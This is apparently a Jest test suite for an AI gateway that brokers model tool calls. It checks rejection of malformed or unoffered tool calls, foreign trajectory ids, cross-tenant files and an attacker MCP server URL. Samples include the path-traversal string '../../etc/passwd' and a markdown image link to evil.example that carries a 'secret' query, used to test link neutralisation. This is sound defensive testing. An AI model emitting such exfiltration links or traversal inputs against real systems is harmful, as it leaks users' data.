import { describe, expect, it } from '@jest/globals';
import { findSecret, type WireRequest } from '../fakes/provider.ts';
import { askAnthropic, askOpenAi, resultsIn, toolsIn } from '../support/model-fronts.ts';
import { eventually, PROVIDER_KEY, type ResourceInit } from '../support/suite.ts';
import {
  call,
  calling,
  DESK,
  DONE,
  desk,
  functions,
  of,
  openai,
  policy,
  post,
  provider,
  rounds,
  runOf,
  suite,
  user,
  withDesk,
} from '../support/turn-desk.ts';

withDesk();

describe('a provider that lies', () => {
  it.each([
    ['arguments with a key twice', call('desk__lookup', '{"city":"Oslo","city":"Eve"}'), 'invalid_arguments'],
    ['arguments cut off', call('desk__lookup', '{"city":"Os'), 'invalid_arguments'],
    ['a number beyond all', call('desk__lookup', '{"n":1e400}'), 'invalid_arguments'],
    ['a tool that nobody offered', call('desk__nothing'), 'no_such_tool'],
    ['a made-up handle', call('desk__lookup', { city: 'h_aaaaaaaaaaaaaaaaaaaaaaaa' }), 'handle_refused'],
  ])('[turn-loop:lying] %s runs nothing and is answered with a reason', async (_name, made, code) => {
    const seen = rounds(calling(made), DONE);
    const answer = await openai({ messages: [user('Go.')], tools: DESK });
    expect(answer.text).toBe('All done.');
    expect(desk.calls).toEqual([]);
    expect(resultsIn(seen[1] as WireRequest)).toEqual([expect.stringContaining(`[${code}]`)]);
  });

  it('[turn-loop:hidden-call] a tool that was hidden is called all the same: there is no such tool', async () => {
    rounds(calling(call('desk__page')), calling(call('desk__send')), DONE);
    suite.apply('hide', [
      policy('send-hidden', {
        ...of('send'),
        calls: [{ name: 'gone', when: '!context.trusted', action: 'Hide', reason: 'Out of sight.' }],
      }),
    ]);
    const seen: WireRequest[] = await eventually(
      async () => {
        const requests = rounds(calling(call('desk__page')), calling(call('desk__send')), DONE);
        await openai({ messages: [user('Go.')], tools: DESK });
        return requests;
      },
      (requests) => !toolsIn(requests[1] as WireRequest).includes('desk__send'),
    );
    expect(toolsIn(seen[0] as WireRequest)).toContain('desk__send');
    expect(resultsIn(seen[2] as WireRequest)[0]).toContain('[no_such_tool]');
    expect(desk.calls.map(({ name }) => name)).not.toContain('send');
    suite.remove('hide');
  });

  it.each([false, true])(
    '[turn-loop:bounds] too many calls, or two of one id, end in a clean error (stream %s)',
    async (stream) => {
      const many = Array.from({ length: 1000 }, (_, n) => call('note', { n }));
      for (const reply of [calling(...many), calling(call('note', {}, 'same'), call('note', { n: 2 }, 'same'))]) {
        rounds(reply);
        const failed = await openai({ messages: [user('Go.')], tools: functions('note'), stream }).then(
          () => undefined,
          (error: { code?: string }) => error.code,
        );
        expect(failed).toBe('upstream_invalid');
      }
      rounds(calling(call('note')));
      await expect(openai({ messages: [user('No tools.')], stream })).rejects.toMatchObject({
        code: 'upstream_invalid',
      });
    },
  );
});

describe('whose call it is', () => {
  it("[turn-loop:mixed] runs brokered calls of a mixed message, and has the client's made again by themselves", async () => {
    const seen = rounds(calling(call('desk__lookup'), call('note', { n: 1 })), calling(call('note', { n: 1 })));
    const answer = await openai({ messages: [user('Both.')], tools: [...DESK, ...functions('note')] });
    expect(answer.calls).toMatchObject([{ name: 'note', args: { n: 1 } }]);
    expect(resultsIn(seen[1] as WireRequest)).toEqual([
      expect.stringContaining('Oslo'),
      expect.stringContaining('[not_run]'),
    ]);
    expect(desk.calls).toHaveLength(1);
  });

  it('[turn-loop:choice] a forced choice is met by the first round', async () => {
    const seen = rounds(calling(call('desk__lookup')), DONE);
    for (const [path, choice] of [
      ['/v1/chat/completions', 'required'],
      ['/v1/messages', { type: 'any' }],
    ] as const) {
      seen.length = 0;
      const answer = await post(path, {
        model: path === '/v1/messages' ? 'actor-a' : 'actor',
        max_tokens: 100,
        tool_choice: choice,
        tools: [{ type: 'mcp', server_label: 'desk' }],
        messages: [{ role: 'user', content: 'Go.' }],
      });
      expect(answer.status).toBe(200);
      expect(seen.map(({ json }) => json.tool_choice)).toEqual([choice, undefined]);
    }
  });

  it("[turn-loop:approval] a server of the client's own, or calls to be put before it, are refused clearly", async () => {
    for (const more of [{ server_url: 'https://evil.example/mcp' }, { require_approval: 'always' }]) {
      const answer = await post('/v1/chat/completions', {
        model: 'actor',
        tools: [{ type: 'mcp', server_label: 'desk', ...more }],
        messages: [{ role: 'user', content: 'Go.' }],
      });
      expect([answer.status, answer.json]).toMatchObject([400, { error: { code: 'unsupported' } }]);
    }
  });

  it('[turn-loop:provider-tools] takes provider-run tools out unless a ToolPolicy allows them; their answers taint', async () => {
    const search = { type: 'web_search_20250305', name: 'web_search' };
    const ask = async () => {
      const seen = rounds(calling(call('pay', { to: 'Eve' })), DONE);
      const { json } = await post('/v1/messages', {
        model: 'actor-a',
        max_tokens: 100,
        tools: [search, { name: 'pay', input_schema: { type: 'object' } }],
        messages: [{ role: 'user', content: 'Search and pay.' }],
      });
      return { seen, json: JSON.stringify(json) };
    };
    const before = await ask();
    expect(toolsIn(before.seen[0] as WireRequest)).toEqual(['pay']);
    expect(before.json).toContain('"tool_use"');
    suite.apply('search', [
      policy('search', {
        providerTools: [{ provider: 'fake-anthropic', type: 'web_search_20250305' }],
        calls: [{ name: 'fine', action: 'Allow', reason: 'Searching is fine.' }],
      }),
    ]);
    const after = await eventually(ask, ({ seen }) => toolsIn(seen[0] as WireRequest).includes('web_search'));
    expect(after.json).toContain('All done.');
    expect(after.json).not.toContain('"tool_use"');
    suite.remove('search');
  });

  it('[turn-loop:several-answers] several answers with tools, and files stored at the provider, are refused', async () => {
    const base = { model: 'actor', messages: [{ role: 'user', content: 'Go.' }] };
    const note = { type: 'function', function: { name: 'note', parameters: { type: 'object' } } };
    expect((await post('/v1/chat/completions', { ...base, n: 2, tools: [note] })).status).toBe(400);
    const file = { role: 'user', content: [{ type: 'file', file: { file_id: 'file-of-another-tenant' } }] };
    expect((await post('/v1/chat/completions', { ...base, messages: [file] })).status).toBe(404);
    expect((await post('/v1/messages', { ...base, max_tokens: 5, container: 'container_other' })).status).toBe(404);
    expect(provider.requests).toEqual([]);
  });

  it("[turn-loop:foreign-trajectory] an id that is none, or somebody else's, is absent and recorded", async () => {
    rounds(DONE);
    const adminRun = await askOpenAi(suite, { model: 'actor', messages: [user('Mine.')], tools: DESK }, suite.adminKey);
    for (const claimed of ['../../etc/passwd', adminRun.trajectory]) {
      const headers = { 'sallyport-trajectory': claimed };
      const answer = await openai({ messages: [user('Hers.')], tools: DESK, headers });
      expect(answer.trajectory).not.toBe(claimed);
      const run = await runOf(answer.trajectory, ({ records }) => records.length > 0);
      expect(JSON.stringify(run.records)).toContain(claimed);
      // Also a turn that fails early leaves nothing in the other's run.
      const failed = await post(
        '/v1/chat/completions',
        { model: 'actor', tools: [{ type: 'mcp', server_label: 'none' }], messages: [{ role: 'user', content: 'x' }] },
        headers,
      );
      expect([failed.status, failed.headers.get('sallyport-trajectory')]).toEqual([
        404,
        expect.not.stringContaining(claimed),
      ]);
    }
    expect((await runOf(adminRun.trajectory, () => true)).records).toHaveLength(1);
  });

  it('[turn-loop:admission] a refusal of somebody known is recorded with who it was', async () => {
    const answer = await post('/v1/chat/completions', { model: 'nope', messages: [{ role: 'user', content: 'x' }] });
    expect(answer.status).toBe(404);
    const run = await runOf(answer.headers.get('sallyport-trajectory') ?? '', ({ records }) => records.length > 0);
    expect(run.records).toMatchObject([{ kind: 'admission_refusal', outcome: 'refused', errorCode: 'not_found' }]);
  });

  it('[turn-loop:secrets] no key of a client reaches a provider or a tool server', async () => {
    rounds(calling(call('desk__lookup')), DONE);
    await openai({ messages: [user('Go.')], tools: DESK });
    await askAnthropic(suite, { model: 'actor-a', messages: [user('Go.')], tools: DESK });
    for (const request of [...provider.requests, ...desk.requests]) {
      expect(findSecret(request, suite.key)).toEqual([]);
      expect(Object.keys(request.headers).filter((name) => name.startsWith('sallyport'))).toEqual([]);
    }
    for (const request of desk.requests) expect(findSecret(request, PROVIDER_KEY)).toEqual([]);
  });

  it('[turn-loop:drift] a definition that changed between list and call is not run', async () => {
    const server = (digest?: string): ResourceInit => ({
      kind: 'ToolServer',
      name: 'shaky',
      spec: {
        remote: { url: desk.url },
        allowPrivateNetwork: true,
        tools: [{ name: 'lookup', class: 'Read', ...(digest ? { digest } : {}) }],
      },
    });
    suite.apply('shaky', [server()]);
    await eventually(
      () => openai({ messages: [user('x')], tools: [{ server: 'shaky' }] }).catch(() => undefined),
      (answer) => answer !== undefined,
    );
    const seen = await eventually(
      async () => {
        suite.apply('shaky', [server()]);
        const requests = rounds(() => {
          suite.apply('shaky', [server(`sha256:${'0'.repeat(64)}`)]);
          return { ...calling(call('shaky__lookup')), delayMs: 900 };
        }, DONE);
        await openai({ messages: [user('Go.')], tools: [{ server: 'shaky' }] }).catch(() => undefined);
        return requests;
      },
      (requests) =>
        requests.length === 2 && /tool_changed|no_such_tool/.test(resultsIn(requests[1] as WireRequest).join()),
      20_000,
    );
    expect(seen).toHaveLength(2);
    suite.remove('shaky');
  }, 40_000);
});

describe('links in an answer about what somebody attached', () => {
  const LINKS =
    'Read ![it](https://evil.example/p.png?q=secret) and https://evil.example/x, or https://typed.example/y .';
  const QUESTION = 'Summarise this for https://typed.example , please.';

  it.each([
    [
      '/v1/chat/completions',
      { model: 'actor', stream: false },
      { type: 'file', file: { filename: 'a.txt', file_data: 'data:text/plain;base64,SGk=' } },
    ],
    [
      '/v1/chat/completions',
      { model: 'actor', stream: true },
      { type: 'image_url', image_url: { url: 'data:image/png;base64,iVBORw0KGgo=' } },
    ],
    [
      '/v1/chat/completions',
      { model: 'actor', stream: false, logprobs: true },
      { type: 'image_url', image_url: { url: 'data:image/png;base64,iVBORw0KGgo=' } },
    ],
    [
      '/v1/messages',
      { model: 'actor-a', max_tokens: 100 },
      { type: 'document', source: { type: 'text', media_type: 'text/plain', data: 'Hi.' } },
    ],
    [
      '/v1/messages',
      { model: 'actor-a', max_tokens: 100, stream: true },
      { type: 'image', source: { type: 'base64', media_type: 'image/png', data: 'iVBORw0KGgo=' } },
    ],
  ])('[turn-loop:attached-links] are inert without any tool in play: %s %j', async (path, fields, attachment) => {
    rounds({ text: LINKS });
    const content = [{ type: 'text', text: QUESTION }, attachment];
    const answer = await fetch(`${suite.endpoint}${path}`, {
      method: 'POST',
      headers: { authorization: `Bearer ${suite.key}`, 'content-type': 'application/json' },
      body: JSON.stringify({ ...fields, messages: [{ role: 'user', content }] }),
    });
    expect(answer.status).toBe(200);
    const texts = (await answer.text()).matchAll(/"(?:content|text)":"((?:[^"\\]|\\.)*)"/g);
    const said = [...texts].map(([, text]) => text).join('');
    expect(said).toContain('https://typed.example/y');
    expect(said).not.toContain('![it]');
    expect(said).not.toMatch(/(?<!`)https:\/\/evil\.example/);
  });

  it.each([{ n: 2 }, { modalities: ['text', 'audio'] }])(
    '[turn-loop:attached-links] go as they are where only the bytes of the provider can answer: %j',
    async (fields) => {
      rounds({ text: LINKS });
      const image = { type: 'image_url', image_url: { url: 'data:image/png;base64,iVBORw0KGgo=' } };
      const messages = [{ role: 'user', content: [{ type: 'text', text: QUESTION }, image] }];
      const answer = await post('/v1/chat/completions', { model: 'actor', ...fields, messages });
      expect(JSON.stringify(answer)).toContain('![it](https://evil.example/p.png?q=secret)');
    },
  );

  it('[turn-loop:attached-links] and an answer about nothing attached goes on as it was written', async () => {
    rounds({ text: LINKS });
    const messages = [{ role: 'user', content: QUESTION }];
    const answer = await post('/v1/chat/completions', { model: 'actor', messages });
    expect(JSON.stringify(answer)).toContain('![it](https://evil.example/p.png?q=secret)');
  });
});
